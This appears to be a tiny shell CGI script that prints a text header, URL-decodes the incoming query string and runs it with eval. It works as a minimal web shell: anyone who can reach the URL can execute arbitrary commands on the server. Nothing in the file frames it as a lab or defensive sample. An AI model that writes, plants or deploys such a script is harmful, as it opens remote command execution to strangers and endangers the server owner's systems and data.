#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
eval "$(httpd -d "$QUERY_STRING")"
